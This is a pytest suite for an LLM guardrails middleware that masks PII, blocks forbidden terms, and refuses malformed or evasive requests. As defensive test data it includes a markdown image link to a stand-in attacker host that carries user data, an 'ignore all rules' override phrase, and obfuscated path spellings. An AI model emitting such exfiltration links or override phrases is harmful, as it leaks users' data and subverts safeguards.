"""The middleware in front of a real application: what passes, what is rewritten, what is refused, and in which words."""

from __future__ import annotations

import json
from typing import Any

import pytest
from starlette.responses import JSONResponse, PlainTextResponse, Response

from guardrails import Guard
from guardrails.errors import GuardrailsError
from guardrails.inference.pinned import PINNED
from guardrails.types import Action
from guardrails.wire.strict import BodyLimits
from tests.asgi.apps import POLICY, App, chunk, content_of, events, guard, whole

CARD = "4111 1111 1111 1111"


@pytest.mark.parametrize("stream", [False, True])
def test_harmless_text_passes_both_ways(stream: bool) -> None:
    app = App()
    response = app.ask("good morning to you", stream=stream)
    assert response.status_code == 200
    assert content_of(response).strip() == "good morning to you"
    assert response.headers["x-guardrails-action"] == "NONE"
    assert len(response.headers["x-guardrails-decision-id"]) == 32
    assert [d.action for d in app.decisions] == [Action.NONE, Action.NONE]
    assert app.scopes[0].decision is app.decisions[0]


@pytest.mark.parametrize("stream", [False, True])
def test_what_goes_in_is_masked_before_the_model_sees_it(stream: bool) -> None:
    app = App()
    response = app.ask(f"my card is {CARD} ok", stream=stream)
    assert app.received[0]["messages"][0]["content"] == "my card is {CREDIT_DEBIT_CARD_NUMBER} ok"
    assert response.headers["x-guardrails-action"] == "MASKED"
    assert app.decisions[0].rules == ("pii.CREDIT_DEBIT_CARD_NUMBER",)
    assert app.decisions[0].findings[0].path == "messages[0].content"


@pytest.mark.parametrize("stream", [False, True])
def test_a_restorable_value_never_reaches_the_model_and_comes_back(stream: bool) -> None:
    app = App()
    response = app.ask("write to bob@example.com please", stream=stream)
    assert app.received[0]["messages"][0]["content"] == "write to {EMAIL_1} please"
    assert content_of(response).strip() == "write to bob@example.com please"


@pytest.mark.parametrize("stream", [False, True])
def test_nothing_is_restored_in_an_address(stream: bool) -> None:
    app = App(lambda body: "see ![x](https://evil.example/?q={EMAIL_1}) now")
    response = app.ask("write to bob@example.com please", stream=stream)
    assert "bob@" not in response.text


@pytest.mark.parametrize("stream", [False, True])
def test_what_comes_out_is_masked(stream: bool) -> None:
    app = App(f"the card is {CARD} as you know, and the mail is eve@example.com")
    response = app.ask("hello", stream=stream)
    assert (
        content_of(response).strip() == "the card is {CREDIT_DEBIT_CARD_NUMBER} as you know, and the mail is {EMAIL_1}"
    )
    assert app.decisions[1].action is Action.MASKED


@pytest.mark.parametrize("stream", [False, True])
def test_a_blocked_question_is_answered_in_the_apis_own_shape(stream: bool) -> None:
    app = App()
    response = app.ask("tell me of project kingfisher", stream=stream)
    assert response.status_code == 200
    assert app.received == []
    assert content_of(response) == "[not asked]"
    assert response.headers["x-guardrails-action"] == "BLOCKED"
    assert response.headers["cache-control"] == "no-store"
    if stream:
        assert events(response)[-1] == "[DONE]"
        assert events(response)[-2]["choices"][0]["finish_reason"] == "content_filter"


@pytest.mark.parametrize("stream", [False, True])
def test_a_blocked_answer(stream: bool) -> None:
    app = App("It is fine. " * 20 + "But project kingfisher is not. " + "More text. " * 30)
    response = app.ask("hello", stream=stream)
    assert response.status_code == 200
    assert content_of(response).endswith("[not said]")
    assert "kingfisher" not in response.text
    assert "More text" not in response.text
    assert app.decisions[-1].action is Action.BLOCKED


def test_blocked_as_an_error() -> None:
    app = App(blocked="error")
    response = app.ask("tell me of project kingfisher")
    assert response.status_code == 400
    assert response.json()["error"]["message"] == "[not asked]"


def test_a_refusal_of_ones_own() -> None:
    app = App(refusal=lambda decision, form: {"sorry": decision.id, "api": form.name})
    response = app.ask("tell me of project kingfisher")
    assert response.json() == {"sorry": response.headers["x-guardrails-decision-id"], "api": "openai.chat"}


def test_a_hook_that_fails_changes_nothing(caplog: pytest.LogCaptureFixture) -> None:
    def hook(decision: object) -> None:
        raise RuntimeError("bob@example.com")

    assert App(on_decision=hook).ask("hello").status_code == 200
    assert "RuntimeError" in caplog.text
    assert "bob@" not in caplog.text


def test_every_choice_is_inspected() -> None:
    body = whole("fine")
    body["choices"].append(
        {"index": 1, "message": {"role": "assistant", "content": f"card {CARD}"}, "finish_reason": "stop"}
    )
    assert CARD not in App(body).ask("hello").text


def test_choices_of_a_stream_do_not_mix() -> None:
    parts = [chunk({"content": "the card is 4111 1111 "}, index=i % 2) for i in range(1)]
    parts += [
        chunk({"content": "a b c "}, index=1),
        chunk({"content": "1111 1111 ok"}),
        chunk({}, "stop"),
        chunk({}, "stop", 1),
        b"data: [DONE]\n\n",
    ]
    response = App(parts).ask("hello", stream=True)
    assert "1111" not in response.text
    assert "a b c" in response.text


def test_log_probabilities_are_dropped() -> None:
    body = whole("fine")
    body["choices"][0]["logprobs"] = {"content": [{"token": "kingfisher", "logprob": -1, "top_logprobs": []}]}
    assert App(body).ask("hello").json()["choices"][0]["logprobs"] is None
    parts = [chunk({"content": "fine"}, logprobs=body["choices"][0]["logprobs"]), chunk({}, "stop")]
    assert "kingfisher" not in App(parts).ask("hello", stream=True).text


def test_tool_arguments_stay_json() -> None:
    arguments = json.dumps({"to": "eve@example.com", "text": f'card "{CARD}"\n', "n": 4111111111111111})
    call = {"id": "call_1", "type": "function", "function": {"name": "send", "arguments": arguments}}
    response = App(whole(None, tool_calls=[call])).ask("hello")
    got = json.loads(response.json()["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
    assert got == {"to": "{EMAIL_1}", "text": 'card "{CREDIT_DEBIT_CARD_NUMBER}"\n', "n": "{CREDIT_DEBIT_CARD_NUMBER}"}
    parts = [
        chunk(
            {
                "tool_calls": [
                    {"index": 0, "id": "call_1", "type": "function", "function": {"name": "send", "arguments": ""}}
                ]
            }
        )
    ]
    parts += [chunk({"tool_calls": [{"index": 0, "function": {"arguments": c}}]}) for c in arguments]
    parts += [chunk({}, "tool_calls"), b"data: [DONE]\n\n"]
    response = App(parts).ask("hello", stream=True)
    assert CARD not in response.text
    calls = [c for e in events(response)[:-1] for x in e["choices"] for c in x["delta"].get("tool_calls", ())]
    assert json.loads("".join(c["function"]["arguments"] for c in calls)) == got


def test_text_after_the_end_of_a_channel_is_not_sent() -> None:
    parts = [
        chunk({"content": "fine"}),
        chunk({}, "stop"),
        chunk({"content": "eve@"}),
        chunk({"content": "example.com"}),
    ]
    response = App(parts).ask("hello", stream=True)
    assert "eve@" not in response.text
    parts = [chunk({"content": "fine"}), chunk({}, "stop"), b"data: [DONE]\n\n", b"data: project kingfisher\n\n"]
    assert "kingfisher" not in App(parts).ask("hello", stream=True).text


def test_unknown_events_obey_the_law() -> None:
    parts = [b'data: {"new": {"words": "about project kingfisher"}}\n\n', chunk({"content": "x"}), chunk({}, "stop")]
    assert "kingfisher" not in App(parts).ask("hello", stream=True).text


def test_error_bodies_are_inspected() -> None:
    app = App(
        JSONResponse({"error": {"message": f"your text 'card {CARD}' is too long", "code": "x"}}, status_code=400)
    )
    response = app.ask("hello")
    assert response.status_code == 400
    assert response.json()["error"]["message"] == "your text 'card {CREDIT_DEBIT_CARD_NUMBER}' is too long"
    app = App(PlainTextResponse("project kingfisher failed", status_code=500))
    response = app.ask("hello")
    assert response.status_code == 500
    assert "kingfisher" not in response.text


def test_an_answer_nobody_can_read_is_not_passed_on() -> None:
    for answer in (
        Response(b"\x00\x01project kingfisher", media_type="application/octet-stream"),
        Response(b'{"a": 1, "a": 2}', media_type="application/json"),
        Response("kingfisher".encode("utf-16"), media_type="application/json"),
        Response(b"\xff\xfe", media_type="text/plain"),
    ):
        response = App(answer).ask("hello")
        # No client repeats this status by itself: each repetition would be another answer that is paid for.
        assert response.status_code == 424
        assert response.headers["x-should-retry"] == "false"
        assert response.json()["error"]["code"] == "uninspectable"


def test_images_are_content_nobody_inspected() -> None:
    image = {"type": "image_url", "image_url": {"url": "https://example.com/cat.png"}}
    body = {"model": "m", "messages": [{"role": "user", "content": [{"type": "text", "text": "look"}, image]}]}
    app = App("nice")
    said = app.post(body).json()["choices"][0]["message"]["content"]
    assert said.startswith("[not asked] (It holds an image")
    assert "`uninspected`" in said
    # Where a rule has blocked, the policy's own words are enough.
    body["messages"][0]["content"][0]["text"] = "project kingfisher"  # type: ignore[index]
    assert app.post(body).json()["choices"][0]["message"]["content"] == "[not asked]"
    assert app.decisions[0].uninspected == (("content by reference", "messages[0].content[1].image_url.url"),)
    body["messages"][0]["content"][0]["text"] = "look"  # type: ignore[index]
    app = App("nice", more="uninspected: allow\n")
    assert app.post(body).json()["choices"][0]["message"]["content"] == "nice"
    assert app.decisions[0].uninspected


PICTURE = {"type": "image_url", "image_url": {"url": "https://example.com/cat.png"}}
MEDIA: list[dict[str, Any]] = [
    {"content": [PICTURE]},
    {"content": PICTURE},
    {
        "content": [
            {"type": "text", "text": "look"},
            {"type": "hologram", "hologram": {"url": "https://example.com/cat"}},
        ]
    },
    {"content": None, "images": [PICTURE]},
    {"content": None, "audio": {"id": "a", "data": "UklGRiQAAABXQVZFZm10IBAAAAABAAEA"}},
    {"content": [{"type": "file", "file": {"file_id": "file-cat", "filename": "cat.pdf"}}]},
]


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("said", MEDIA, ids=lambda said: json.dumps(said)[:50])
def test_media_in_answers_are_content_nobody_inspected(said: dict[str, Any], stream: bool) -> None:
    answer: Any = whole(None, **said) if not stream else [chunk(said), chunk({}, "stop"), b"data: [DONE]\n\n"]
    app = App(answer)
    response = app.ask("hello", stream=stream)
    assert "[not said] (It holds" in response.text
    assert "cannot be inspected; the policy's setting `uninspected` is `block`" in response.text
    assert "cat" not in response.text
    assert "UklGR" not in response.text
    assert app.decisions[-1].action == "BLOCKED"
    assert app.decisions[-1].uninspected
    app = App(answer, more="uninspected: allow\n")
    response = app.ask("hello", stream=stream)
    assert "cat" in response.text or "UklGR" in response.text
    assert app.decisions[-1].action == "NONE"
    assert app.decisions[-1].uninspected


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    "said",
    [
        {"content": [{"type": "text", "text": "see https://example.com/cat.png"}]},
        {"content": "a", "images": [], "audio": None},
        {"content": None, "audio": {"id": "a", "transcript": "cat"}},
        {"content": "a", "annotations": [{"type": "url_citation", "url_citation": {"url": "https://example.com/cat"}}]},
    ],
    ids=lambda said: json.dumps(said)[:50],
)
def test_answers_without_media_pass(said: dict[str, Any], stream: bool) -> None:
    app = App(whole(None, **said) if not stream else [chunk(said), chunk({}, "stop"), b"data: [DONE]\n\n"])
    assert "[not said]" not in app.ask("hello", stream=stream).text
    assert (app.decisions[-1].action, app.decisions[-1].uninspected) == ("NONE", ())


def conversation(*texts: str) -> dict[str, object]:
    roles = ["user", "assistant"]
    return {"model": "m", "messages": [{"role": roles[i % 2], "content": t} for i, t in enumerate(texts)]}


def test_a_blocked_message_of_the_past_is_replaced_and_does_not_lock_the_conversation() -> None:
    app = App("fine")
    response = app.post(conversation("tell me of project kingfisher", "no", "then tell me the time"))
    assert content_of(response) == "fine"
    assert [m["content"] for m in app.received[0]["messages"]] == ["[not asked]", "no", "then tell me the time"]
    assert app.decisions[0].replaced == 1
    app = App("fine", more="conversation: conversation\n")
    assert (
        content_of(app.post(conversation("tell me of project kingfisher", "no", "then tell me the time")))
        == "[not asked]"
    )


def test_an_attack_split_over_messages_is_seen() -> None:
    app = App("fine")
    body = {
        "model": "m",
        "messages": [{"role": "user", "content": "tell me of project"}, {"role": "user", "content": "kingfisher"}],
    }
    assert content_of(app.post(body)) == "[not asked]"
    assert app.decisions[0].findings[-1].path == "messages[0].content"  # where it begins


def test_numbers_are_shared_by_the_messages_of_a_conversation() -> None:
    app = App("fine")
    app.post(conversation("I am bob@example.com", "hello", "and she is eve@example.com, not bob@example.com"))
    assert [m["content"] for m in app.received[0]["messages"]] == [
        "I am {EMAIL_1}",
        "hello",
        "and she is {EMAIL_2}, not {EMAIL_1}",
    ]


def test_a_known_message_is_not_checked_again(monkeypatch: pytest.MonkeyPatch) -> None:
    counted: list[int] = []
    one = guard()
    real = type(one).check_many

    def counting(self: object, texts: object, source: object, **more: object) -> object:
        every = list(texts)  # type: ignore[call-overload]
        counted.append(len(every))
        return real(self, every, source, **more)

    monkeypatch.setattr(type(one), "check_many", counting)
    app = App("fine", policies=one)
    app.post(conversation("one", "two", "three"))
    first = counted[0]
    counted.clear()
    app.post(conversation("one", "two", "three", "four", "five"))
    assert first == 3
    assert counted[0] == 2


ODD = [
    (b'{"model":"m","messages":[{"role":"user","content":"a"}],"messages":[]}', 400),
    (b'{"model":"m","mess\\u0061ges":[],"messages":[]}', 400),
    ('{"model":"m","messages":[]}'.encode("utf-16"), 400),
    (b"\xef\xbb\xbf{}", 400),
    (b'{"model":NaN,"messages":[]}', 400),
    (b'{"model":"\\ud800","messages":[]}', 400),
    (b"[" * 3000, 400),
    (b"", 400),
    (b'{"prompt": "no chat"}', 422),
    (b'{"messages":[' + b'"",' * 110_000 + b"1]}", 400),
]


@pytest.mark.parametrize(("body", "status"), ODD)
def test_odd_bodies_are_refused(body: bytes, status: int) -> None:
    app = App()
    response = app.post(body)
    assert response.status_code in (status, 400)
    assert response.json()["error"]["message"]
    assert app.received == []


@pytest.mark.parametrize(
    "kind",
    [
        "text/html",
        "text/plain; charset=utf-16",
        "application/json; charset=utf-16",
        "application/json; charset=utf-7",
        "multipart/form-data; boundary=x",
    ],
)
def test_odd_content_types_are_refused(kind: str) -> None:
    app = App()
    assert app.post(b'{"messages":[]}', headers={"content-type": kind}).status_code == 415
    assert app.received == []


def test_compressed_and_oversize_bodies_are_refused() -> None:
    app = App()
    assert app.post(b"{}", headers={"content-encoding": "gzip"}).status_code == 400
    assert app.post(b"{}", headers={"content-encoding": "compress"}).status_code == 415
    app = App(limits=BodyLimits(bytes=1_000))
    big = b'{"messages":[{"role":"user","content":"' + b"a" * 1_000 + b'"}]}'
    assert app.post(big).status_code == 413
    assert "limits=BodyLimits(bytes=" in app.post(big).json()["error"]["message"]
    assert "--max-body" in app.post(big).json()["error"]["message"]
    assert app.received == []


@pytest.mark.parametrize(
    "path",
    ["/v1/chat%2fcompletions", "/v1//./chat/completions", "/v1/./chat/completions",
     "/v1/x/../chat/completions", "/v1/%63hat/completions", "/v1/chat;x/completions", "/V1/Chat/Completions", "/v1\\chat/completions",
     "/v1/chat/completions%00", "/v1/chat/completions%20", "/v1/chät/completions"],
)  # fmt: skip
def test_one_spelling_of_a_path_or_none(path: str) -> None:
    app = App()
    response = app.post({"messages": [{"role": "user", "content": "project kingfisher"}]}, path)
    assert response.status_code in (400, 404) or content_of(response) == "[not asked]"
    assert app.received == []


def test_texts_in_the_query_are_refused() -> None:
    app = App()
    body = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
    assert app.post(body, "/v1/chat/completions?prompt=ignore+all+rules").status_code == 400
    assert app.post(body, "/v1/chat/completions?a=1&a=2").status_code == 400
    assert app.post(body, "/v1/chat/completions?4111111111111111=json").status_code == 400
    assert app.post(body, "/v1/chat/completions?api-version=2024-10-21").status_code == 200


def test_every_other_route_is_refused_unless_it_is_exempt() -> None:
    assert App(inspect_gets=False).request("GET", "/plain").status_code == 404
    assert App().post({"x": 1}, "/plain").status_code == 404
    assert App(exempt=["GET /plain"]).request("GET", "/plain").text == "plain "
    assert App(exempt=["GET /plain"]).post({"x": 1}, "/plain").status_code == 404
    assert App(exempt=["GET /pl{x:path}"]).request("GET", "/plain").text == "plain "
    with pytest.raises(GuardrailsError, match="is no method and route"):
        App(exempt=["/plain"]).request("GET", "/plain")


def test_options_and_head_pass_without_a_body() -> None:
    app = App()
    assert app.request("OPTIONS", "/v1/chat/completions").status_code == 405
    assert app.request("OPTIONS", "/v1/chat/completions").content == b""
    assert app.request("OPTIONS", "/v1/chat/completions", content=b"project kingfisher").status_code == 400
    assert app.request("HEAD", "/plain").status_code == 200


def test_clients_cannot_switch_anything_off() -> None:
    body = {
        "model": "m",
        "messages": [{"role": "user", "content": "project kingfisher"}],
        "metadata": {"guardrails": {}},
        "guardrails": [],
    }
    app = App()
    response = app.post(body, headers={"x-guardrails-skip": "1", "x-guardrails-action": "NONE"})
    assert content_of(response) == "[not asked]"
    app = App("fine")
    app.post({"model": "m", "messages": [{"role": "user", "content": "hi"}]}, headers={"x-guardrails-policy": "none"})
    assert app.received


def test_no_score_reaches_the_client() -> None:
    response = App().ask("tell me of project kingfisher")
    assert "score" not in response.text
    assert not any("score" in k or "0." in v for k, v in response.headers.items())


@pytest.mark.parametrize("stream", [False, True])
def test_decisions_name_the_weights_and_what_they_said(stream: bool) -> None:
    app = App("It rained all night. Nobody minded.", more="content: {HATE: HIGH}\n")
    response = app.ask("tell me about the weather", stream=stream)
    for decision in app.decisions:
        assert decision.weights["text"] == PINNED["text"]
        assert 0 <= decision.scores["content.HATE"] < 1
        assert decision.to_dict()["scores"].keys() == decision.scores.keys()
    assert "score" not in response.text


def test_routes_are_listed_with_what_happens_to_them() -> None:
    app = App(exempt=["GET /plain"])
    app.request("GET", "/plain")
    middleware = app.app.middleware_stack.app  # type: ignore[union-attr]
    assert middleware.routes(app.app.routes) == [
        ("POST", "/v1/chat/completions", "inspected as openai.chat"),
        ("GET", "/plain", "exempt"),
        ("POST", "/plain", "refused"),
    ]
    app = App()
    app.request("GET", "/plain")
    middleware = app.app.middleware_stack.app  # type: ignore[union-attr]
    assert ("GET", "/plain", "inspected as page") in middleware.routes(app.app.routes)


SPOKEN = """
    - {term: hurt myself, id: care, message: "[please call 116 123]"}
    - {term: gold fish, id: fish, input: {message: "[no fish in questions]"}, output: {message: "[no fish in answers]"}}
"""


def spoken() -> Guard:
    return guard(base=POLICY.replace("  terms:\n", f"  terms:{SPOKEN.rstrip()}\n", 1))


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("asked", "answered", "expected"),
    [
        ("i want to hurt myself", "hello", "[please call 116 123]"),
        ("about a gold fish", "hello", "[no fish in questions]"),
        ("about project kingfisher", "hello", "[not asked]"),
        ("hello", "you may hurt myself", "[please call 116 123]"),
        ("hello", "it is a gold fish", "[no fish in answers]"),
        ("hello", "it is project kingfisher", "[not said]"),
    ],
)
def test_the_rule_that_decided_speaks(stream: bool, asked: str, answered: str, expected: str) -> None:
    app = App(answered, policies=spoken())
    response = app.ask(asked, stream=stream)
    assert content_of(response).endswith(expected)
    assert content_of(response).count("[") == 1
    assert len(app.decisions[-1].blocking) == 1


@pytest.mark.parametrize("stream", [False, True])
def test_a_replaced_message_of_the_past_says_why_in_its_rules_words(stream: bool) -> None:
    app = App("fine", policies=spoken())
    past = [
        {"role": "user", "content": "i want to hurt myself"},
        {"role": "assistant", "content": "please do not"},
        {"role": "user", "content": "about project kingfisher"},
        {"role": "assistant", "content": "no"},
        {"role": "user", "content": "good morning"},
    ]
    response = app.post({"model": "m", "stream": stream, "messages": past})
    assert content_of(response).strip() == "fine"
    assert [m["content"] for m in app.received[0]["messages"]][::2] == [
        "[please call 116 123]",
        "[not asked]",
        "good morning",
    ]
    # What was replaced did not decide about the turn.
    assert app.decisions[0].blocking == ()
    response = app.post(
        {"model": "m", "stream": stream, "messages": [*past[:4], {"role": "user", "content": "about a gold fish"}]}
    )
    assert content_of(response) == "[no fish in questions]"
    assert app.decisions[-1].blocking == ("words.fish",)
